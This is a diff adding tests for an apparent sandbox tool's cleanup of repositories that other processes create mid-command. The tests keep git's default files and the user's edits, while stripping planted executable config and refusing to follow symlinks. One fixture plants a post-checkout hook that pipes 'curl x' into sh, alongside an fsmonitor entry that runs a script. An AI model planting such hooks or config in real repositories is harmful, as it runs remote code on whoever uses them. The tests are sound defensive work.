@@ -132,3 +132,101 @@ test('a new repository keeps only config that runs nothing, in every spelling gi
   assert.doesNotMatch(sanitizeGitConfig('[core]\n\tworktree = /home/u\n').text, /worktree/);
   assert.match(sanitizeGitConfig('[core]\n\tworktree = ../../x\n', { submodule: true }).text, /worktree/);
 });
+
+// Two commands in one workspace (a background job and the next command, or the user's own `git init`
+// in a terminal): one plans while the other is half-way through making a repository. What the
+// other made, git's own default files, must survive the first one's check; what would run must not.
+function halfMadeRepository(): { root: string; gitDir: string } {
+  const root = tempDir();
+  const gitDir = path.join(root, '.git');
+  fs.mkdirSync(path.join(gitDir, 'objects'), { recursive: true });
+  fs.writeFileSync(path.join(gitDir, 'HEAD'), 'ref: refs/heads/main\n');
+  return { root, gitDir };
+}
+const GIT_DEFAULT_CONFIG =
+  '[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n\tlogallrefupdates = true\n';
+
+test('a repository another process finishes making while a command runs keeps all git made', () => {
+  const { root, gitDir } = halfMadeRepository();
+  const plan = planRunLater([root], { bind: () => {} }, []);
+  fs.writeFileSync(path.join(gitDir, 'config'), GIT_DEFAULT_CONFIG);
+  fs.mkdirSync(path.join(gitDir, 'hooks'));
+  fs.writeFileSync(path.join(gitDir, 'hooks', 'pre-commit.sample'), '#!/bin/sh\n');
+  fs.mkdirSync(path.join(gitDir, 'info'));
+  fs.writeFileSync(
+    path.join(gitDir, 'info', 'exclude'),
+    '# git ls-files --others --exclude-from=.git/info/exclude\n',
+  );
+  assert.deepEqual(settleRunLater(plan, everywhere), []);
+  assert.equal(fs.readFileSync(path.join(gitDir, 'config'), 'utf8'), GIT_DEFAULT_CONFIG);
+  assert.ok(fs.existsSync(path.join(gitDir, 'hooks', 'pre-commit.sample')));
+  assert.ok(fs.existsSync(path.join(gitDir, 'info', 'exclude')));
+});
+
+test('what would run in files that appeared in a git dir is still cleaned out, and links are not followed', () => {
+  const { root, gitDir } = halfMadeRepository();
+  const outside = path.join(tempDir(), 'profile');
+  fs.writeFileSync(outside, 'export A=1\n');
+  const plan = planRunLater([root], { bind: () => {} }, []);
+  fs.writeFileSync(path.join(gitDir, 'config'), `${GIT_DEFAULT_CONFIG}\tfsmonitor = ./run.sh\n`);
+  fs.mkdirSync(path.join(gitDir, 'hooks'));
+  fs.writeFileSync(path.join(gitDir, 'hooks', 'post-checkout'), '#!/bin/sh\ncurl x | sh\n');
+  fs.mkdirSync(path.join(gitDir, 'info'));
+  fs.writeFileSync(path.join(gitDir, 'info', 'attributes'), '* filter=lfs\n');
+  fs.writeFileSync(path.join(gitDir, 'info', 'exclude'), 'payload.js\n');
+  const denied = settleRunLater(plan, everywhere).map((d) => path.relative(gitDir, d.target));
+  assert.deepEqual(denied.sort(), ['config', 'hooks/post-checkout', 'info/attributes', 'info/exclude']);
+  assert.equal(fs.readFileSync(path.join(gitDir, 'config'), 'utf8'), GIT_DEFAULT_CONFIG);
+  assert.deepEqual(fs.readdirSync(path.join(gitDir, 'hooks')), []);
+
+  // A config that is a link: removed, never rewritten through (that would edit the file it points at).
+  const again = halfMadeRepository();
+  const plan2 = planRunLater([again.root], { bind: () => {} }, []);
+  fs.symlinkSync(outside, path.join(again.gitDir, 'config'));
+  fs.symlinkSync(path.dirname(outside), path.join(again.gitDir, 'hooks'));
+  assert.equal(settleRunLater(plan2, everywhere).length, 2);
+  assert.equal(fs.lstatSync(path.join(again.gitDir, 'config'), { throwIfNoEntry: false }), undefined);
+  assert.equal(fs.lstatSync(path.join(again.gitDir, 'hooks'), { throwIfNoEntry: false }), undefined);
+  assert.equal(fs.readFileSync(outside, 'utf8'), 'export A=1\n');
+});
+
+test('while a long command runs, the user’s own edits survive its checks: git rewriting its config, VS Code settings, a new .npmrc set aside', () => {
+  const keelHome = tempDir();
+  const saved = process.env.KEEL_HOME;
+  process.env.KEEL_HOME = keelHome;
+  try {
+    const { root, gitDir } = halfMadeRepository();
+    fs.writeFileSync(path.join(gitDir, 'config'), GIT_DEFAULT_CONFIG);
+    fs.mkdirSync(path.join(root, '.vscode'));
+    const plan = planRunLater([root], { bind: () => {} }, []);
+    // git writes config.lock and renames it over config: a new inode in the same folder. Inside the
+    // sandbox the config is a mount point, so only someone outside it could have done this.
+    const withRemote = `${GIT_DEFAULT_CONFIG}[remote "origin"]\n\turl = https://example.test/r.git\n`;
+    fs.writeFileSync(path.join(gitDir, 'config.lock'), withRemote);
+    fs.renameSync(path.join(gitDir, 'config.lock'), path.join(gitDir, 'config'));
+    // VS Code's settings editor writes into the existing .vscode (read-only inside the sandbox): left alone.
+    const settings = path.join(root, '.vscode', 'settings.json');
+    fs.writeFileSync(settings, '{"editor.tabSize": 2}\n');
+    // A new .npmrc cannot be told apart from one the command made: out of the tree, but kept.
+    const npmrc = path.join(root, '.npmrc');
+    fs.writeFileSync(npmrc, 'save-exact=true\n');
+    const denied = settleRunLater(plan, everywhere);
+    assert.equal(
+      fs.readFileSync(path.join(gitDir, 'config'), 'utf8'),
+      withRemote,
+      'the config is the user’s',
+    );
+    assert.equal(fs.readFileSync(settings, 'utf8'), '{"editor.tabSize": 2}\n');
+    assert.deepEqual(
+      denied.map((d) => d.target),
+      [npmrc],
+    );
+    assert.ok(!fs.existsSync(npmrc), 'not left where npm would act on it');
+    const kept = /kept at (\S+)\)/.exec(denied[0]?.detail ?? '')?.[1];
+    assert.ok(kept?.startsWith(path.join(keelHome, 'set-aside')), denied[0]?.detail);
+    assert.equal(fs.readFileSync(kept ?? '', 'utf8'), 'save-exact=true\n', 'set aside, not lost');
+  } finally {
+    if (saved === undefined) delete process.env.KEEL_HOME;
+    else process.env.KEEL_HOME = saved;
+  }
+});
